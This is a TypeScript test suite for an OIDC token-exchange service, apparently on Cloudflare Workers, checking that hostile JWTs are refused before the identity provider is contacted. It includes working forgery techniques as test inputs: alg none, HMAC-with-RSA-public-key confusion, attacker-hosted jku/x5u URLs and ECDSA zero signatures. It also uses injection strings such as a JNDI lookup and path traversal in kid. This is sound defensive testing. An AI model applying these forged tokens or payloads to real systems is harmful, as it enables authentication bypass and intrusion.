// Hostile ID tokens (issue 4, docs/security.md "Hostile tokens"): each attack is refused with 401 (413 for
// size) and a reasonCode naming it, no access token is issued, and everything that can be judged from the
// token alone is refused before any request to the IdP (idp.stats() stays at zero). Complements
// login-rules.test.ts, which covers each login rule on its own.
import { env } from "cloudflare:workers";
import fc from "fast-check";
import { base64url, type JWK } from "jose";
import { describe, expect, it } from "vitest";
import { forgetDiscovery } from "../../src/oidc/discovery";
import { forgetKeys } from "../../src/oidc/issuer-keys";
import { parseStrictJson } from "../../src/oidc/strict-json";
import { login } from "../support/api";
import { b64url, b64urlJson, b64urlText, gitlabClaims, publicJwk, signJws, type Claims } from "../support/idp";
import { expectRefusal, type RefusalStatus, type WireReasonCode } from "../support/refusal";
import { AUDIENCE, expectIssued, GITLAB_SUBJECT, scenario, type Scenario } from "../support/scenario";

const SEED_CONFIG = {
  boundSubject: GITLAB_SUBJECT,
  boundAudiences: AUDIENCE,
  boundClaims: { project_id: "20", ref_protected: "true" },
};
const NO_REQUESTS = { discovery: 0, jwks: 0 };
const now = () => Math.floor(Date.now() / 1000);
const segments = (jwt: string) => jwt.split(".") as [string, string, string];

/** The claims of a token that passes every rule of SEED_CONFIG for scenario `s`. */
const goodClaims = (s: Scenario, overrides: Claims = {}) => ({
  ...gitlabClaims(),
  iss: s.idp.issuer,
  iat: now(),
  nbf: now(),
  exp: now() + 300,
  jti: crypto.randomUUID(),
  ...overrides,
});

/** The tenant's private JWK for `alg` (its signing key), to sign hand-made tokens the IdP would have signed. */
async function tenantKey(s: Scenario, alg: string): Promise<JWK> {
  const key = (await s.idp.keys()).findLast((k) => k.alg === alg);
  if (!key) throw new Error(`tenant has no ${alg} key`);
  return key;
}

/** Logs in with `jwt` on a fresh scenario and expects a refusal before any request to the IdP. */
async function refusedBeforeFetch(s: Scenario, jwt: string, status: RefusalStatus, reasonCode: WireReasonCode) {
  expectRefusal(await s.loginJwt(jwt), status, reasonCode, { secrets: [jwt] });
  expect(await s.idp.stats()).toEqual(NO_REQUESTS);
}

describe("size (before any decoding)", () => {
  /** A genuine token padded (with a claim of 'x's) to within 4 characters of `length`. */
  async function tokenOfLength(s: Scenario, length: number): Promise<string> {
    const base = (await s.idp.mint(gitlabClaims({ padding: "" }))).length;
    return s.idp.mint(gitlabClaims({ padding: "x".repeat(Math.floor(((length - base) * 3) / 4)) }));
  }

  it("admits a genuine token of just under 16 KiB", async () => {
    const s = await scenario(SEED_CONFIG);
    const jwt = await tokenOfLength(s, 16 * 1024 - 2);
    expect(jwt.length).toBeGreaterThan(16 * 1024 - 8);
    expect(jwt.length).toBeLessThanOrEqual(16 * 1024);
    expectIssued(await s.loginJwt(jwt));
  });

  it("refuses a genuine, validly signed token just over 16 KiB with 413 token_too_large", async () => {
    const s = await scenario(SEED_CONFIG);
    const jwt = await tokenOfLength(s, 16 * 1024 + 6);
    expect(jwt.length).toBeGreaterThan(16 * 1024);
    expect(jwt.length).toBeLessThan(16 * 1024 + 10);
    await refusedBeforeFetch(s, jwt, 413, "token_too_large");
  });

  it("refuses 60 KiB of garbage with 413 (not 422, not 500)", async () => {
    const s = await scenario(SEED_CONFIG);
    await refusedBeforeFetch(s, "A".repeat(60 * 1024), 413, "token_too_large");
  });
});

describe("one token, one spelling: compact JWS in strict base64url", () => {
  it.each([
    ["two segments", (j: string) => j.split(".").slice(0, 2).join(".")],
    ["four segments", (j: string) => `${j}.AAAA`],
    ["an empty header", (j: string) => `.${segments(j)[1]}.${segments(j)[2]}`],
    ["an empty payload", (j: string) => `${segments(j)[0]}..${segments(j)[2]}`],
    ["padding in the payload", (j: string) => `${segments(j)[0]}.${segments(j)[1]}==.${segments(j)[2]}`],
    ["padding after the signature", (j: string) => `${j}==`],
    [
      "a space inside the payload",
      (j: string) => `${segments(j)[0]}.${segments(j)[1].slice(0, 10)} ${segments(j)[1].slice(10)}.${segments(j)[2]}`,
    ],
    ["a newline inside the signature", (j: string) => `${j.slice(0, -10)}\n${j.slice(-10)}`],
    ["standard base64 (+ and /) in the signature", (j: string) => j.replace(/-/g, "+").replace(/_/g, "/")],
    ["a percent-encoded character", (j: string) => `${segments(j)[0]}.%${segments(j)[1]}.${segments(j)[2]}`],
  ])("refuses %s as token_malformed", async (_name, mangle) => {
    const s = await scenario(SEED_CONFIG);
    // A signature with both '-' and '_', so that the +/ variant differs from the original.
    let genuine = await s.idp.mint(gitlabClaims());
    for (let i = 0; i < 20 && !/[-_]/.test(segments(genuine)[2]); i++) genuine = await s.idp.mint(gitlabClaims());
    const jwt = mangle(genuine);
    expect(jwt).not.toBe(genuine);
    await refusedBeforeFetch(s, jwt, 401, "token_malformed");
  });

  it("refuses a second spelling of the same signature bytes (non-zero unused bits in the last character)", async () => {
    // RS256 signatures are 256 bytes: 342 base64url characters, the last of which carries 4 unused bits.
    // A lenient decoder reads "…A" and "…B" as the same bytes; then one token would have many spellings.
    const s = await scenario(SEED_CONFIG);
    const genuine = await s.idp.mint(gitlabClaims());
    const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    const last = genuine.at(-1)!;
    const respelled = genuine.slice(0, -1) + alphabet[alphabet.indexOf(last) + 1];
    expect(base64url.decode(segments(respelled)[2])).toEqual(base64url.decode(segments(genuine)[2]));
    await refusedBeforeFetch(s, respelled, 401, "token_malformed");
    expectIssued(await s.loginJwt(genuine));
  });

  it("refuses a JWE (five segments) as token_encrypted", async () => {
    const s = await scenario(SEED_CONFIG);
    const jwe = [
      b64urlJson({ alg: "RSA-OAEP-256", enc: "A256GCM", kid: "k" }),
      "ZW5jcnlwdGVka2V5",
      "aXZpdml2aXZpdg",
      "Y2lwaGVydGV4dA",
      "dGFndGFndGFndGFn",
    ].join(".");
    await refusedBeforeFetch(s, jwe, 401, "token_encrypted");
  });

  it.each([
    ["general", (p: string, sig: string, h: string) => JSON.stringify({ payload: p, signatures: [{ protected: h, signature: sig }] })],
    ["flattened", (p: string, sig: string, h: string) => JSON.stringify({ payload: p, protected: h, signature: sig })],
  ])("refuses the %s JSON serialization of a genuine token", async (_name, serialize) => {
    const s = await scenario(SEED_CONFIG);
    const [h, p, sig] = segments(await s.idp.mint(gitlabClaims()));
    await refusedBeforeFetch(s, serialize(p, sig, h), 401, "token_malformed");
  });
});

describe("header and payload are JSON objects, without duplicate names or absurd nesting", () => {
  it.each([
    ["an array", "[1,2]"],
    ["a string", '"RS256"'],
    ["null", "null"],
    ["not JSON", "{alg:RS256}"],
    ["JSON followed by garbage", '{"alg":"RS256"}x'],
  ])("refuses a header that is %s", async (_name, headerText) => {
    const s = await scenario(SEED_CONFIG);
    const [, p, sig] = segments(await s.idp.mint(gitlabClaims()));
    await refusedBeforeFetch(s, `${b64urlText(headerText)}.${p}.${sig}`, 401, "token_malformed");
  });

  it.each([
    ["an array", "[]"],
    ["a number", "1700000000"],
    ["a quoted object", JSON.stringify(JSON.stringify({ sub: "x" }))],
  ])("refuses a signed payload that is %s", async (_name, payload) => {
    const s = await scenario(SEED_CONFIG);
    await refusedBeforeFetch(s, await s.idp.mint(payload), 401, "token_malformed");
  });

  it("refuses a payload that is not UTF-8", async () => {
    const s = await scenario(SEED_CONFIG);
    const [h, , sig] = segments(await s.idp.mint(gitlabClaims()));
    const bytes = new Uint8Array([0x7b, 0x22, 0x73, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0x22, 0x7d]); // {"s":"\xff\xfe"}
    await refusedBeforeFetch(s, `${h}.${b64url(bytes)}.${sig}`, 401, "token_malformed");
  });

  it("refuses a payload the IdP signed that names sub twice (JSON.parse would keep the last)", async () => {
    const s = await scenario(SEED_CONFIG);
    const claims = goodClaims(s);
    const text =
      JSON.stringify({ ...claims, sub: "project_path:attacker/x:ref_type:branch:ref:main" }).slice(0, -1) +
      `,"sub":${JSON.stringify(GITLAB_SUBJECT)}}`;
    expect(JSON.parse(text).sub).toBe(GITLAB_SUBJECT); // what a lenient parser would have admitted
    await refusedBeforeFetch(s, await s.idp.mint(text), 401, "token_malformed");
  });

  it("refuses duplicates spelled differently (\\u escapes decode to the same name)", async () => {
    const s = await scenario(SEED_CONFIG);
    const text = JSON.stringify(goodClaims(s)).slice(0, -1) + ',"ref_\\u0070rotected":"false"}';
    await refusedBeforeFetch(s, await s.idp.mint(text), 401, "token_malformed");
  });

  it("refuses a payload the IdP signed with a lone surrogate (not Unicode text)", async () => {
    const s = await scenario(SEED_CONFIG);
    const text = JSON.stringify(goodClaims(s)).slice(0, -1) + ',"team":"a\\ud800"}';
    expect(JSON.parse(text).team).toBe("a\ud800"); // what a lenient parser would have kept
    await refusedBeforeFetch(s, await s.idp.mint(text), 401, "token_malformed");
  });

  it("refuses a duplicate member in a nested object", async () => {
    const s = await scenario(SEED_CONFIG);
    const text = JSON.stringify(goodClaims(s)).slice(0, -1) + ',"ext":{"team":"a","team":"b"}}';
    await refusedBeforeFetch(s, await s.idp.mint(text), 401, "token_malformed");
  });

  it("refuses a header naming alg twice", async () => {
    const s = await scenario(SEED_CONFIG);
    const rsa = await tenantKey(s, "RS256");
    const jwt = await s.idp.mint(gitlabClaims(), { rawHeader: `{"alg":"none","kid":"${rsa.kid}","alg":"RS256"}` });
    await refusedBeforeFetch(s, jwt, 401, "token_malformed");
  });

  it("refuses absurd nesting, and admits ordinary nesting", async () => {
    const s = await scenario(SEED_CONFIG);
    const deep = (n: number): unknown => (n === 0 ? "x" : { a: deep(n - 1) });
    const text = JSON.stringify(goodClaims(s)).slice(0, -1) + `,"deep":${"[".repeat(500)}${"]".repeat(500)}}`;
    await refusedBeforeFetch(s, await s.idp.mint(text), 401, "token_malformed");
    await refusedBeforeFetch(s, await s.idp.mint(gitlabClaims({ deep: deep(20) })), 401, "token_malformed");
    expectIssued(await s.loginWith({ deep: deep(8) }));
  });

  it("refuses a number that does not fit a double (exp: 1e999 would be Infinity: a token that never expires)", async () => {
    const s = await scenario(SEED_CONFIG);
    const text = JSON.stringify({ ...goodClaims(s), exp: 0 }).replace('"exp":0', '"exp":1e999');
    await refusedBeforeFetch(s, await s.idp.mint(text), 401, "token_malformed");
  });
});

describe("algorithms (before any fetch)", () => {
  it.each(["None", "NONE", "nOnE", "none ", " none", "none\u0000", "HS384", "ES256K", "RS1", "PS256 ", "EdDSA\u200b", "ＲＳ256"])(
    "refuses alg %j",
    async (alg) => {
      const s = await scenario(SEED_CONFIG);
      await refusedBeforeFetch(s, await s.idp.mint(gitlabClaims(), { header: { alg } }), 401, "alg_not_allowed");
    },
  );

  it.each([123, true, ["RS256"], { name: "RS256" }])("refuses a non-string alg %j", async (alg) => {
    const s = await scenario(SEED_CONFIG);
    await refusedBeforeFetch(s, await s.idp.mint(gitlabClaims(), { header: { alg } }), 401, "alg_not_allowed");
  });

  it.each(["none", "None", "NONE"])("refuses an unsigned token (alg %j, empty signature)", async (alg) => {
    const s = await scenario(SEED_CONFIG);
    const jwt = `${b64urlJson({ alg, typ: "JWT" })}.${b64urlJson(goodClaims(s))}.`;
    await refusedBeforeFetch(s, jwt, 401, "alg_not_allowed");
  });

  it.each(["HS256", "HS384", "HS512"])(
    "refuses %s keyed with the IdP's RSA public key in every usual encoding (algorithm confusion)",
    async (alg) => {
      const s = await scenario(SEED_CONFIG);
      const rsa = await tenantKey(s, "RS256");
      const spki = new Uint8Array(
        (await crypto.subtle.exportKey(
          "spki",
          await crypto.subtle.importKey(
            "jwk",
            publicJwk({ ...rsa, alg: undefined, use: undefined }) as JsonWebKey,
            { name: "RSASSA-PKCS1-v1_5", hash: "SHA-256" },
            true,
            ["verify"],
          ),
        )) as ArrayBuffer,
      );
      const pem = `-----BEGIN PUBLIC KEY-----\n${btoa(String.fromCharCode(...spki)).replace(/.{64}/g, "$&\n")}\n-----END PUBLIC KEY-----\n`;
      for (const secret of [new TextEncoder().encode(pem), spki, new TextEncoder().encode(JSON.stringify(publicJwk(rsa)))]) {
        const hmac = await crypto.subtle.importKey("raw", secret, { name: "HMAC", hash: `SHA-${alg.slice(2)}` }, false, ["sign"]);
        const input = `${b64urlJson({ alg, kid: rsa.kid, typ: "JWT" })}.${b64urlJson(goodClaims(s))}`;
        const jwt = `${input}.${b64url(new Uint8Array(await crypto.subtle.sign("HMAC", hmac, new TextEncoder().encode(input))))}`;
        await refusedBeforeFetch(s, jwt, 401, "alg_not_allowed");
      }
    },
  );
});

describe("headers that would choose the key or change how the token is read (before any fetch)", () => {
  it("refuses a token carrying its own key in jwk, signed with that key", async () => {
    const s = await scenario(SEED_CONFIG);
    const attacker = await s.idp.jwkPair("ES256");
    const jwt = await signJws(
      attacker.privateJwk,
      "ES256",
      { alg: "ES256", kid: attacker.publicJwk.kid, jwk: attacker.publicJwk },
      goodClaims(s),
    );
    await refusedBeforeFetch(s, jwt, 401, "header_not_allowed");
  });

  it.each([
    ["jku", "https://attacker.example/jwks.json"],
    ["x5u", "https://attacker.example/cert.pem"],
    ["x5c", ["MIIBmTCCAT+gAwIBAgIU"]],
  ])("refuses %s (never fetched, never trusted)", async (name, value) => {
    const s = await scenario(SEED_CONFIG);
    const attacker = await s.idp.jwkPair("RS256");
    const jwt = await signJws(
      attacker.privateJwk,
      "RS256",
      { alg: "RS256", kid: attacker.publicJwk.kid, [name]: value },
      goodClaims(s),
    );
    await refusedBeforeFetch(s, jwt, 401, "header_not_allowed");
  });

  it.each<[string, Record<string, unknown>]>([
    ["an unknown critical extension", { crit: ["https://example.com/must-understand"], "https://example.com/must-understand": true }],
    ["crit naming a registered claim", { crit: ["exp"] }],
    ["an empty crit", { crit: [] }],
    ["b64: false (unencoded payload)", { b64: false, crit: ["b64"] }],
    ["b64: false without crit", { b64: false }],
    ["a JWE enc parameter", { enc: "A256GCM" }],
    ["a zip parameter", { zip: "DEF" }],
  ])("refuses %s", async (_name, header) => {
    const s = await scenario(SEED_CONFIG);
    const jwt = await s.idp.mint(gitlabClaims(), { header });
    await refusedBeforeFetch(s, jwt, 401, "header_not_allowed");
  });
});

describe("signatures", () => {
  const P256_N = "ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551";
  const hexBytes = (hex: string) => Uint8Array.from(hex.match(/../g)!, (b) => parseInt(b, 16));
  const withSignature = (jwt: string, sig: Uint8Array) => `${segments(jwt)[0]}.${segments(jwt)[1]}.${b64url(sig)}`;

  it.each<[string, (genuine: Uint8Array) => Uint8Array]>([
    ["r = s = 0 (CVE-2022-21449)", () => new Uint8Array(64)],
    ["r = 0", (g) => Uint8Array.from([...new Uint8Array(32), ...g.subarray(32)])],
    ["s = 0", (g) => Uint8Array.from([...g.subarray(0, 32), ...new Uint8Array(32)])],
    ["r = s = n (the curve order)", () => Uint8Array.from([...hexBytes(P256_N), ...hexBytes(P256_N)])],
    ["s = n", (g) => Uint8Array.from([...g.subarray(0, 32), ...hexBytes(P256_N)])],
    ["r = n", (g) => Uint8Array.from([...hexBytes(P256_N), ...g.subarray(32)])],
    ["s = 2^256 - 1", (g) => Uint8Array.from([...g.subarray(0, 32), ...new Uint8Array(32).fill(0xff)])],
    ["a truncated signature (63 bytes)", (g) => g.subarray(0, 63)],
    ["an extended signature (65 bytes)", (g) => Uint8Array.from([...g, 0])],
    [
      "a DER-encoded signature instead of r||s",
      (g) => Uint8Array.from([0x30, 0x44, 0x02, 0x20, ...g.subarray(0, 32), 0x02, 0x20, ...g.subarray(32)]),
    ],
  ])("refuses an ES256 signature with %s before any fetch", async (_name, forge) => {
    const s = await scenario(SEED_CONFIG);
    const genuine = await s.idp.mint(gitlabClaims(), { alg: "ES256" });
    await refusedBeforeFetch(s, withSignature(genuine, forge(base64url.decode(segments(genuine)[2]))), 401, "signature_invalid");
  });

  it("refuses a malleated Ed25519 signature (S + L) that a lax verifier would accept", async () => {
    const s = await scenario(SEED_CONFIG);
    const genuine = await s.idp.mint(gitlabClaims(), { alg: "EdDSA" });
    const sig = base64url.decode(segments(genuine)[2]);
    const L = 2n ** 252n + 27742317777372353535851937790883648493n;
    let S = 0n;
    for (let i = 63; i >= 32; i--) S = (S << 8n) | BigInt(sig[i]!);
    const malleated = Uint8Array.from(sig);
    let t = S + L;
    for (let i = 32; i < 64; i++, t >>= 8n) malleated[i] = Number(t & 0xffn);
    await refusedBeforeFetch(s, withSignature(genuine, malleated), 401, "signature_invalid");
    expectIssued(await s.loginJwt(genuine));
  });

  it.each<[string, (genuine: Uint8Array) => Uint8Array]>([
    ["empty", () => new Uint8Array(0)],
    ["2 bytes", (g) => g.subarray(0, 2)],
    ["2 KiB", (g) => Uint8Array.from([...g, ...g, ...g, ...g, ...g, ...g, ...g, ...g])],
  ])("refuses an RS256 signature of impossible size (%s) before any fetch", async (_name, forge) => {
    const s = await scenario(SEED_CONFIG);
    const genuine = await s.idp.mint(gitlabClaims());
    await refusedBeforeFetch(s, withSignature(genuine, forge(base64url.decode(segments(genuine)[2]))), 401, "signature_invalid");
  });

  it.each<[string, (genuine: Uint8Array) => Uint8Array]>([
    ["truncated by one byte", (g) => g.subarray(0, g.length - 1)],
    ["extended by one zero byte", (g) => Uint8Array.from([...g, 0])],
    ["prefixed with a zero byte", (g) => Uint8Array.from([0, ...g])],
    ["with one bit flipped", (g) => Uint8Array.from(g, (b, i) => (i === 100 ? b ^ 1 : b))],
  ])("refuses an RS256 signature %s (keys may be fetched; no token issued)", async (_name, forge) => {
    const s = await scenario(SEED_CONFIG);
    const genuine = await s.idp.mint(gitlabClaims());
    const forged = withSignature(genuine, forge(base64url.decode(segments(genuine)[2])));
    expectRefusal(await s.loginJwt(forged), 401, "signature_invalid", { secrets: [forged] });
    expect((await s.idp.stats()).jwks).toBeLessThanOrEqual(1);
    expectIssued(await s.loginJwt(genuine));
  });

  it("refuses a genuine signature moved onto another payload", async () => {
    const s = await scenario(SEED_CONFIG);
    const a = await s.idp.mint(gitlabClaims({ ref_protected: "false" }));
    const b = await s.idp.mint(gitlabClaims());
    const spliced = `${segments(b)[0]}.${segments(b)[1]}.${segments(a)[2]}`;
    expectRefusal(await s.loginJwt(spliced), 401, "signature_invalid", { secrets: [spliced] });
  });

  it("refuses a PS256 token signed with a key the IdP publishes for RS256 only (alg differs from the key's alg)", async () => {
    const s = await scenario(SEED_CONFIG);
    const rsa = await tenantKey(s, "RS256");
    const jwt = await signJws(rsa, "PS256", { alg: "PS256", kid: rsa.kid, typ: "JWT" }, goodClaims(s));
    expectRefusal(await s.loginJwt(jwt), 401, "key_not_found", { secrets: [jwt] });
  });
});

describe("kid is only a key into the configured issuer's key set", () => {
  it.each([
    ["path traversal", "../../../../etc/passwd"],
    ["a URL", "https://attacker.example/jwks.json"],
    ["SQL", "' OR '1'='1' --"],
    ["a JNDI lookup", "${jndi:ldap://attacker.example/a}"],
    ["markup", "<script>alert(1)</script>"],
    ["a NUL byte", "rsa\u0000"],
    ["a header injection", "k\r\nX-Injected: 1"],
    ["__proto__", "__proto__"],
    ["constructor", "constructor"],
    ["hasOwnProperty", "hasOwnProperty"],
    ["a JSON pointer", "#/keys/0"],
    ["an array index", "0"],
  ])("a kid that is %s finds no key", async (_name, kid) => {
    const s = await scenario(SEED_CONFIG);
    const res = await s.loginWith({}, { kid });
    expectRefusal(res, 401, "key_not_found", { secrets: [res.jwt] });
  });

  it("a kid that differs from a published one by case, a lookalike letter or whitespace finds no key", async () => {
    const s = await scenario(SEED_CONFIG);
    const { kid } = await tenantKey(s, "RS256");
    for (const variant of [
      kid!.toUpperCase(),
      kid!.toLowerCase(),
      ` ${kid}`,
      `${kid} `,
      `${kid}\u200b`,
      kid!.replace(/[a]/, "\u0430"),
    ]) {
      if (variant === kid) continue;
      const res = await s.loginWith({}, { kid: variant, alg: "RS256" });
      expectRefusal(res, 401, "key_not_found", { secrets: [res.jwt] });
    }
    expect((await s.idp.stats()).jwks).toBeLessThanOrEqual(2); // one read, at most one refetch (cooldown)
  });

  it.each<[string, unknown]>([
    ["a 10 KB string", "k".repeat(10_000)],
    ["an empty string", ""],
    ["a number", 1],
    ["null", null],
    ["an array", ["a"]],
    ["an object", { $ne: "" }],
  ])("a kid that is %s is refused before any fetch", async (_name, kid) => {
    const s = await scenario(SEED_CONFIG);
    const rsa = await tenantKey(s, "RS256");
    const header = JSON.stringify({ alg: "RS256", kid, typ: "JWT" });
    const jwt = await signJws(rsa, "RS256", header, goodClaims(s));
    await refusedBeforeFetch(s, jwt, 401, "key_not_found");
  });

  it("a burst of 200 bogus kids costs the IdP one JWKS read and at most one refetch, in this isolate and a fresh one", async () => {
    const s = await scenario(SEED_CONFIG);
    const tokens = await Promise.all(
      Array.from({ length: 200 }, (_, i) => s.idp.mint(gitlabClaims(), { kid: `bogus-${i}-${crypto.randomUUID()}` })),
    );
    // Distinct client addresses: this test is about the IdP's load, not the failed-login rate limit.
    const results = await Promise.all(tokens.map((jwt, i) => login(s.identity.id, jwt, { ip: `198.51.100.${i % 250}` })));
    for (const [i, res] of results.entries()) expectRefusal(res, 401, "key_not_found", { secrets: [tokens[i]!] });
    const first = await s.idp.stats();
    expect(first.discovery).toBe(1);
    expect(first.jwks).toBeLessThanOrEqual(2);
    // The KV copy and the cooldown marker are written after the responses (waitUntil): wait for them.
    for (let i = 0; i < 100 && (await env.CACHE.get(`jwks-refetch:${s.idp.jwksUrl}`)) === null; i++) {
      await new Promise((resolve) => setTimeout(resolve, 20));
    }

    // Another isolate: empty memory, but the KV copy and the KV cooldown are shared.
    forgetKeys();
    forgetDiscovery();
    const more = await Promise.all(Array.from({ length: 50 }, (_, i) => s.idp.mint(gitlabClaims(), { kid: `more-${i}` })));
    const again = await Promise.all(more.map((jwt, i) => login(s.identity.id, jwt, { ip: `203.0.113.${i}` })));
    for (const [i, res] of again.entries()) expectRefusal(res, 401, "key_not_found", { secrets: [more[i]!] });
    expect(await s.idp.stats()).toEqual(first);
    expectIssued(await s.loginWith({}, {}, {}));
  });
});

describe("time claims", () => {
  it.each<[string, unknown, WireReasonCode]>([
    ["exp null", null, "exp_invalid"],
    ["exp a numeric string", String(now() + 300), "exp_invalid"],
    ["exp an array", [now() + 300], "exp_invalid"],
    ["exp true", true, "exp_invalid"],
  ])("refuses %s before any fetch", async (_name, exp, reasonCode) => {
    const s = await scenario(SEED_CONFIG);
    await refusedBeforeFetch(s, await s.idp.mint(gitlabClaims({ exp })), 401, reasonCode);
  });

  it.each<[string, Claims, WireReasonCode]>([
    ["nbf a string", { nbf: String(now()) }, "nbf_invalid"],
    ["nbf null", { nbf: null }, "nbf_invalid"],
    ["iat a string", { iat: String(now()) }, "iat_invalid"],
    ["iat an object", { iat: { t: now() } }, "iat_invalid"],
  ])("refuses %s before any fetch", async (_name, claims, reasonCode) => {
    const s = await scenario(SEED_CONFIG);
    await refusedBeforeFetch(s, await s.idp.mint(gitlabClaims(claims)), 401, reasonCode);
  });

  it("admits an iat up to the leeway ahead, refuses one beyond it", async () => {
    const s = await scenario(SEED_CONFIG);
    expectIssued(await s.loginWith({ iat: now() + 10, nbf: now() }));
    const res = await s.loginWith({ iat: now() + 45, nbf: now() });
    expectRefusal(res, 401, "token_issued_in_future", { secrets: [res.jwt] });
  });

  it("refuses an nbf just beyond the leeway, and an exp just beyond it", async () => {
    const s = await scenario(SEED_CONFIG);
    let res = await s.loginWith({ nbf: now() + 45 });
    expectRefusal(res, 401, "token_not_yet_valid", { secrets: [res.jwt] });
    res = await s.loginWith({}, { expiresIn: -45 });
    expectRefusal(res, 401, "token_expired", { secrets: [res.jwt] });
  });
});

describe("exact matching: issuer, case, lookalike Unicode", () => {
  it.each<[string, (issuer: string) => unknown]>([
    ["with the scheme in upper case", (i) => i.replace("http://", "HTTP://")],
    ["with the tenant path in upper case", (i) => i.replace(/\/t\/([^/]+)$/, (_m, t: string) => `/t/${t.toUpperCase()}`)],
    ["with a trailing space", (i) => `${i} `],
    ["with a zero-width space", (i) => `${i}\u200b`],
    ["with a fullwidth slash", (i) => i.replace(/\/t\//, "\uff0ft/")],
    ["with a dot segment", (i) => i.replace(/:(\d+)\//, ":$1/./")],
    ["percent-encoded", (i) => i.replace("/t/", "/%74/")],
    ["as an array", (i) => [i]],
  ])("refuses an iss %s", async (_name, mangle) => {
    const s = await scenario(SEED_CONFIG);
    const iss = mangle(s.idp.issuer);
    const res = await s.loginWith({ iss });
    expectRefusal(res, 401, "issuer_mismatch", { secrets: [res.jwt] });
  });

  it.each([
    ["a Cyrillic р in project_path", GITLAB_SUBJECT.replace("project_path", "\u0440roject_path")],
    ["a Cyrillic о in mygroup", GITLAB_SUBJECT.replace("mygroup", "mygr\u043eup")],
    ["a fullwidth colon", GITLAB_SUBJECT.replace(":ref:", "\uff1aref:")],
    ["a zero-width joiner", GITLAB_SUBJECT.replace("main", "ma\u200din")],
    ["a trailing NUL", `${GITLAB_SUBJECT}\u0000`],
    ["upper case", GITLAB_SUBJECT.toUpperCase()],
  ])("a subject with %s never matches", async (_name, sub) => {
    const s = await scenario(SEED_CONFIG);
    expect(sub).not.toBe(GITLAB_SUBJECT);
    const res = await s.loginWith({ sub });
    expectRefusal(res, 401, "subject_not_allowed", { secrets: [res.jwt] });
  });

  it("a claim value in another Unicode normalisation form never matches (no normalisation)", async () => {
    const s = await scenario({ ...SEED_CONFIG, boundClaims: { ...SEED_CONFIG.boundClaims, environment: "caf\u00e9" } });
    expectIssued(await s.loginWith({ environment: "caf\u00e9" }));
    const res = await s.loginWith({ environment: "cafe\u0301" });
    expectRefusal(res, 401, "claim_not_allowed: environment", { secrets: [res.jwt] });
  });

  it.each<[string, Claims, WireReasonCode]>([
    ["Ref_Protected", { ref_protected: undefined, Ref_Protected: "true" }, "claim_not_allowed: ref_protected"],
    ["REF_PROTECTED", { ref_protected: undefined, REF_PROTECTED: "true" }, "claim_not_allowed: ref_protected"],
    ["Sub", { sub: undefined, Sub: GITLAB_SUBJECT }, "subject_not_allowed"],
    ["AUD", { aud: undefined, AUD: AUDIENCE }, "audience_not_allowed"],
  ])("a claim present only as %s is missing", async (_name, overrides, reasonCode) => {
    const s = await scenario(SEED_CONFIG);
    const res = await s.loginWith(overrides);
    expectRefusal(res, 401, reasonCode, { secrets: [res.jwt] });
  });

  it("an ISS claim does not stand in for iss", async () => {
    const s = await scenario(SEED_CONFIG);
    const res = await s.loginWith({ ISS: s.idp.issuer }, { omit: ["iss"] });
    expectRefusal(res, 401, "issuer_mismatch", { secrets: [res.jwt] });
  });
});

describe("the strict JSON reader refuses only what it must", () => {
  it("reads every JSON text JSON.stringify can produce exactly as JSON.parse does", () => {
    fc.assert(
      fc.property(fc.jsonValue(), (value) => {
        const text = JSON.stringify(value);
        expect(parseStrictJson(text, { maxDepth: 1000, requireObject: false })).toEqual(JSON.parse(text));
      }),
      { numRuns: 500 },
    );
  });

  it.each([
    ' { "a" : [ 1 , -0.5e+3 , 0 , 1E2 , true , false , null ] , "b" : { } , "c" : [ ] } ',
    '{"\\u00e9":"\\ud83d\\ude00","\\"":"\\\\\\/\\b\\f\\n\\r\\t","e\\u0301":1}',
    '{"a":1,"A":2,"a ":3}',
  ])("accepts %s", (text) => {
    expect(parseStrictJson(text, { maxDepth: 4 })).toEqual(JSON.parse(text));
  });

  it.each([
    ['{"a":1,"a":1}', /duplicate/],
    ['{"a":{"b":1,"\\u0062":2}}', /duplicate/],
    ["{'a':1}", /member name/],
    ['{"a":01}', /./],
    ['{"a":1,}', /member name/],
    ['{"a":"\u0001"}', /string/],
    ['{"a":1e400}', /range/],
    ['{"a":NaN}', /unexpected/],
    ['{"a":[[[[1]]]]}', /deeply/],
    ["[]", /object/],
  ])("refuses %s", (text, message) => {
    expect(() => parseStrictJson(text, { maxDepth: 4 })).toThrow(message);
  });
});
